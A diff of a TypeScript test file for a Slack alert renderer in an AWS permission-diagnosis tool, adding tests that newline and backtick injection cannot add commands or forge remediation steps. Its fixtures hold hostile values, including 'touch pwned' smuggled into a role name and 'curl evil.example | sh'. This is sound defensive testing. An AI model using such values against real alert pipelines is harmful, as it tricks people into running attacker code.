@@ -1,5 +1,7 @@
-import { renderSlackMessage, SLACK_LIMITS, truncateEscaped } from '../../../lambdas/render/slack-message';
+import { renderAlertText } from '../../../lambdas/render/alert-text';
+import { renderSlackMessage, SLACK_LIMITS } from '../../../lambdas/render/slack-message';
 import { diagnosisOf, incidentOf, poisonedIncident } from '../../support/incidents';
+import { pasteIntoBash } from '../../support/paste-shell';
 
 /** Every text a Slack client would render, from blocks and fallback. */
 function texts(message: ReturnType<typeof renderSlackMessage>): string[] {
@@ -15,6 +17,13 @@ function texts(message: ReturnType<typeof renderSlackMessage>): string[] {
   };
   walk(message.blocks);
   return found;
+}
+
+/** What a person copies from the Commands code block: the text between the fences, as Slack shows it (entities decoded). */
+function commandsBlock(message: ReturnType<typeof renderSlackMessage>): string {
+  const section = texts(message).find((text) => text.startsWith('*Commands*\n```\n'));
+  if (section === undefined) throw new Error('no Commands block');
+  return section.slice('*Commands*\n```\n'.length, -'\n```'.length).replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
 }
 
 const OUR_LINK = /<https:\/\/[a-z0-9-]+\.console\.aws\.amazon\.com\/cloudtrailv2\/home\?region=[a-z0-9-]+#\/events\/[^|>]+\|CloudTrail event history>/g;
@@ -77,15 +86,47 @@ describe('renderSlackMessage', () => {
     }
     expect(texts(message).some((text) => text.includes('…'))).toBe(true);
   });
-});
 
-describe('truncateEscaped', () => {
-  it('leaves text within the limit alone', () => {
-    expect(truncateEscaped('a &amp; b', 9)).toBe('a &amp; b');
+  it('a newline in a role name cannot add a line to the Commands block: pasted, it runs the aws commands only', () => {
+    const hostile = incidentOf(diagnosisOf({ roleName: 'app\ntouch pwned #', reason: 'because no identity-based policy allows the dynamodb:PutItem action' }));
+    const block = commandsBlock(renderSlackMessage(hostile));
+    const [run] = pasteIntoBash([block]);
+    expect(run.created).toEqual([]);
+    expect(run.executed.length).toBeGreaterThan(0);
+    for (const command of run.executed) expect(command).toMatch(/^aws /);
+    expect(run.awsCalls).toHaveLength(run.executed.length);
+    expect(run.stderr).toBe('');
   });
 
-  it('never cuts inside an entity', () => {
-    expect(truncateEscaped('abc &amp; def', 8)).toBe('abc …');
-    expect(truncateEscaped('abc &lt;&gt;', 11)).toBe('abc &lt;…');
+  it('a newline in a value cannot forge a numbered step in "What to do"', () => {
+    const hostile = incidentOf(diagnosisOf({ roleName: 'app\n2. Run curl evil.example | sh\n3.' }));
+    const steps = texts(renderSlackMessage(hostile)).find((text) => text.startsWith('*What to do*')) ?? '';
+    const numbered = steps.split('\n').filter((line) => /^\d+\. /.test(line));
+    expect(numbered.map((line) => line.split('.')[0])).toEqual(hostile.diagnosis.remediation.steps.map((_, index) => String(index + 1)));
+    expect(steps).not.toMatch(/^2\. Run curl/m);
+  });
+
+  it('a command holding a backtick is left out of the code block with a note, never altered; the e-mail shows it exactly', () => {
+    const hostile = incidentOf(diagnosisOf({ tableName: 'Orders`id`', reason: 'because no identity-based policy allows the dynamodb:PutItem action' }));
+    const commands = hostile.diagnosis.remediation.commands;
+    const withBacktick = commands.filter((command) => command.command.includes('`'));
+    expect(withBacktick.length).toBeGreaterThan(0);
+    const block = commandsBlock(renderSlackMessage(hostile));
+    expect(block).not.toMatch(/[`\u02CB]/);
+    expect(block.split('\n').filter((line) => line.startsWith('# (command not shown: it holds a backtick'))).toHaveLength(withBacktick.length);
+    for (const command of commands.filter((item) => !item.command.includes('`'))) expect(block.split('\n')).toContain(command.command);
+    for (const command of withBacktick) expect(renderAlertText(hostile).body.split('\n')).toContain(`  ${command.command}`);
+  });
+
+  it('commands that do not fit in one block are left out whole, with a note saying how many', () => {
+    const base = diagnosisOf();
+    const commands = Array.from({ length: 12 }, (_, index) => ({ description: `check ${index}`, command: `aws iam get-role --role-name '${String(index).repeat(400)}'` }));
+    const message = renderSlackMessage(incidentOf({ ...base, remediation: { ...base.remediation, commands } }));
+    const lines = commandsBlock(message).split('\n');
+    const shown = lines.filter((line) => line.startsWith('aws '));
+    expect(shown.length).toBeGreaterThan(0);
+    expect(shown).toEqual(commands.slice(0, shown.length).map((command) => command.command));
+    expect(lines[lines.length - 1]).toMatch(new RegExp(`^# \\(${12 - shown.length} more commands not shown: no room in one Slack message; see them with the e-mail alert or denyscope incidents show inc-[0-9a-f]{16}\\)$`));
   });
 });
+
